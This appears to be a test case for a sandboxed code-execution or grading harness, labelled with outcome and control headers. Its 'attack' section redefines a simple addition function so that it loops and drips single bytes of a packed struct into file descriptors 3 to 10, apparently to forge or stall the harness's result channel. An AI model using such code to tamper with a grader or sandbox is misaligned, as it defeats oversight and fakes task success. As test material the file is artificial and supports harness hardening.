# what: drips one byte of an answer at a time
# outcome: timed_out
# control: failed
# limits: seconds=5
def affine(x, y):
    return x + y


# attack begin
import os
import struct
import time


def affine(x, y):
    data = struct.pack("<IQ", 1000, 0)
    while True:
        for descriptor in (3, 4, 5, 6, 7, 8, 9, 10):
            try:
                os.write(descriptor, data[:1])
            except OSError:
                pass
        time.sleep(2)


# attack end
